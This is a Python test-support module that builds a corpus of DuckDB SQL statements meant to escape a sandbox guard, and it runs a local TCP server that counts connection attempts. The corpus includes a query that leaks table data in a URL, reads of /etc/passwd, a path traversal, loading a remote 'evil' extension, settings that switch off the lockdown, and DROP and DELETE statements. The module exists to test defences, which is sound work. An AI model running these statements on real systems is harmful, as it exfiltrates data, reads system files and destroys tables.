"""SQL that tries to reach the network or files Loupe did not register, and a server that counts who knocks.

``corpus(target)`` names every DuckDB way to name a file or an address:
table functions, COPY, ATTACH, EXPORT/IMPORT DATABASE, INSTALL/LOAD,
SET/RESET/PRAGMA, addresses built with getvariable/concat/format/printf,
the http, https, s3, hf, gcs, r2 and azure schemes, file:// and absolute
paths. Each entry is ``(statement, kind)``: the kind of message a person
must get (``network``, ``extension``, ``locked``) or ``None`` where DuckDB's
own error is the clear answer (a function that needs a constant, say).

``Knocks`` is a TCP server on another port that counts every connection,
whatever is sent on it (HTTP, TLS, anything), and answers HTTP with a CSV.
"""

import socket
import threading

from app.core import guard

MESSAGES = {"network": guard.NETWORK_MESSAGE, "extension": guard.EXTENSION_MESSAGE, "locked": guard.LOCKED_MESSAGE}

# Statements that change tables: SQL from outside the person must never run them unasked.
CHANGES = [
    "DROP TABLE seattle_weather",
    "CREATE OR REPLACE TABLE seattle_weather AS SELECT 1 AS replaced",
    "DELETE FROM seattle_weather",
    "ALTER TABLE seattle_weather RENAME TO gone",
    "INSERT INTO seattle_weather SELECT * FROM seattle_weather",
    "WITH x AS (SELECT 1) DELETE FROM seattle_weather",
]


def corpus(target: str) -> list:
    """``[(statement, kind)]`` aimed at ``target`` (``http://127.0.0.1:PORT``)."""
    host = target.split("://", 1)[1]
    port = host.rsplit(":", 1)[1]
    leak = (
        "SET VARIABLE v = (SELECT string_agg(weather, '-') FROM (SELECT weather FROM seattle_weather LIMIT 5)); "
        "SELECT * FROM read_csv('" + target + "/leak?d=' || getvariable('v'))"
    )
    return [
        ("SELECT * FROM read_csv('" + target + "/a.csv')", "network"),
        ("SELECT * FROM read_csv_auto('" + target + "/b.csv')", "network"),
        ("SELECT * FROM '" + target + "/c.csv'", "network"),
        ("SELECT * FROM read_csv(['" + target + "/d1.csv', '" + target + "/d2.csv'])", "network"),
        ("SELECT * FROM read_parquet('" + target + "/e.parquet')", "extension"),
        ("SELECT * FROM '" + target + "/f.parquet'", "network"),
        ("SELECT * FROM read_json('" + target + "/g.json')", "extension"),
        ("SELECT * FROM read_json_auto('" + target + "/h.json')", "extension"),
        ("SELECT * FROM read_text('" + target + "/i.txt')", "network"),
        ("SELECT * FROM read_blob('" + target + "/j.bin')", "network"),
        ("SELECT * FROM sniff_csv('" + target + "/k.csv')", "network"),
        ("SELECT * FROM glob('" + target + "/*')", "network"),
        ("SELECT * FROM parquet_metadata('" + target + "/l.parquet')", "extension"),
        ("SELECT * FROM read_csv('https://" + host + "/m.csv')", "network"),
        ("SELECT * FROM read_csv('http://localhost:" + port + "/n.csv')", "network"),
        ("SELECT * FROM read_csv('s3://loupe-leak/o.csv')", "network"),
        ("SELECT * FROM read_csv('hf://datasets/loupe/leak/p.csv')", "network"),
        ("SELECT * FROM read_csv('gcs://loupe-leak/q.csv')", "network"),
        ("SELECT * FROM read_csv('gs://loupe-leak/q2.csv')", "network"),
        ("SELECT * FROM read_csv('r2://loupe-leak/r.csv')", "network"),
        ("SELECT * FROM read_csv('azure://loupe-leak/s.csv')", "network"),
        ("SELECT * FROM read_csv('az://loupe-leak/s2.csv')", "network"),
        ("SELECT * FROM read_csv('file:///etc/passwd')", "network"),
        ("SELECT * FROM read_text('/etc/passwd')", "network"),
        ("SELECT * FROM read_csv('" + guard.FILES + "../../" + target + "/t.csv')", "network"),
        ("COPY (SELECT * FROM seattle_weather) TO '" + target + "/u.csv'", "network"),
        ("COPY seattle_weather TO '" + target + "/v.parquet' (FORMAT parquet)", "extension"),
        ("COPY seattle_weather FROM '" + target + "/w.csv'", "network"),
        ("COPY seattle_weather TO '/tmp/x.csv'", "network"),
        ("ATTACH '" + target + "/y.duckdb' AS remote", "network"),
        ("ATTACH '" + target + "/z.sqlite' AS lite (TYPE sqlite)", "extension"),
        ("ATTACH 'md:loupe'", "extension"),
        ("EXPORT DATABASE '" + target + "/export'", "network"),
        ("IMPORT DATABASE '" + target + "/import'", "network"),
        ("INSTALL httpfs", "extension"),
        ("LOAD httpfs", "extension"),
        ("FORCE INSTALL httpfs FROM '" + target + "/extensions'", "extension"),
        ("INSTALL spatial FROM community", "extension"),
        ("LOAD '" + target + "/evil.duckdb_extension'", "extension"),
        ("SET enable_external_access = true", "locked"),
        ("RESET enable_external_access", "locked"),
        ("SET lock_configuration = false", "locked"),
        ("SET GLOBAL allowed_directories = ['/']", "locked"),
        ("SET allowed_paths = ['" + target + "/a.csv']", "locked"),
        ("SET custom_extension_repository = '" + target + "/extensions'", "locked"),
        ("SET autoinstall_known_extensions = true", "locked"),
        ("SET autoload_known_extensions = true", "locked"),
        ("PRAGMA enable_external_access", None),
        ("SET s3_endpoint = '" + host + "'", "locked"),
        ("CREATE SECRET leak (TYPE s3, ENDPOINT '" + host + "')", "extension"),
        (leak, "network"),
        ("SELECT * FROM read_csv(concat('" + target + "/', 'concat.csv'))", "network"),
        ("SELECT * FROM read_csv(format('{}/{}', '" + target + "', 'format.csv'))", "network"),
        ("SELECT * FROM read_csv(printf('%s/printf.csv', '" + target + "'))", "network"),
        ("SELECT * FROM read_csv((SELECT '" + target + "/sub?d=' || max(weather) FROM seattle_weather))", None),
        ("SELECT * FROM query('SELECT * FROM read_csv(''" + target + "/query.csv'')')", "network"),
        ("CREATE TABLE grabbed AS SELECT * FROM read_csv('" + target + "/create.csv')", "network"),
        ("CREATE VIEW peek AS SELECT * FROM '" + target + "/view.csv'; SELECT * FROM peek", "network"),
    ]


def one_of_each(target: str) -> list:
    """A statement of each way in (a URL built from data, each scheme family, COPY, ATTACH, INSTALL, SET):
    for entry points that cost a page load per statement and then take a path the whole corpus takes."""
    wanted = (
        "SET VARIABLE",
        "SELECT * FROM read_csv('" + target,
        "SELECT * FROM read_csv('https://",
        "SELECT * FROM read_csv('s3://",
        "SELECT * FROM read_csv(printf(",
        "COPY (SELECT",
        "ATTACH '" + target,
        "INSTALL httpfs",
        "SET enable_external_access",
    )
    return [next(entry for entry in corpus(target) if entry[0].startswith(prefix)) for prefix in wanted]


class Knocks:
    """A TCP server that counts connections (and keeps what each one sent first)."""

    def __init__(self):
        self.seen = []
        self._socket = socket.socket()
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self._socket.bind(("127.0.0.1", 0))
        self._socket.listen(64)
        self.port = self._socket.getsockname()[1]
        self.url = "http://127.0.0.1:" + str(self.port)
        self._running = True
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while self._running:
            try:
                connection, _ = self._socket.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(connection,), daemon=True).start()

    def _answer(self, connection):
        with connection:
            connection.settimeout(2)
            try:
                first = connection.recv(4096)
            except OSError:
                first = b""
            self.seen.append(first.split(b"\r\n", 1)[0].decode("latin-1"))
            body = b"a,b\n1,2\n"
            try:
                connection.sendall(
                    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/csv\r\n"
                    b"Content-Length: " + str(len(body)).encode() + b"\r\nConnection: close\r\n\r\n" + body
                )
            except OSError:
                pass

    def close(self):
        self._running = False
        self._socket.close()
